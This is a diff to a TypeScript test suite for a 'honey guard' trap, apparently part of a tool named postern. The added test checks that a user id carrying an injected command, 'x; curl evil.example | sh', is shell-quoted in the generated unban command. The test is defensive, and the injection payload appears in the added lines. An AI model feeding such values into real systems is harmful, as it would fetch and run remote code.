@@ -169,10 +169,16 @@ describe('honey guard', () => {
     const exchange = exchangeFrom('192.0.2.7', [], {}, 'GET', '/backup.zip')
     exchange.principal = { kind: 'user', id: 'mallory' }
     const known = (await trap.decide(exchange)) as Refusal
+    exchange.principal = { kind: 'user', id: 'x; curl evil.example | sh' }
+    const hostile = (await trap.decide(exchange)) as Refusal
     const stranger = (await trap.decide(exchangeFrom('192.0.2.8', [], {}, 'GET', '/backup.zip'))) as Refusal
     assert.deepEqual(
-      [known, stranger].map(said => said.reasons[0].exception?.command),
-      ['postern unban principal:mallory', 'postern unban 192.0.2.8'],
+      [known, hostile, stranger].map(said => said.reasons[0].exception?.command),
+      [
+        'postern unban principal:mallory',
+        "postern unban 'principal:x; curl evil.example | sh'",
+        'postern unban 192.0.2.8',
+      ],
     )
     assert.deepEqual(
       remediations
@@ -182,6 +188,7 @@ describe('honey guard', () => {
       [
         ['192.0.2.8', 7_200_000],
         ['mallory', 7_200_000],
+        ['x; curl evil.example | sh', 7_200_000],
       ],
     )
     await remediations.close()
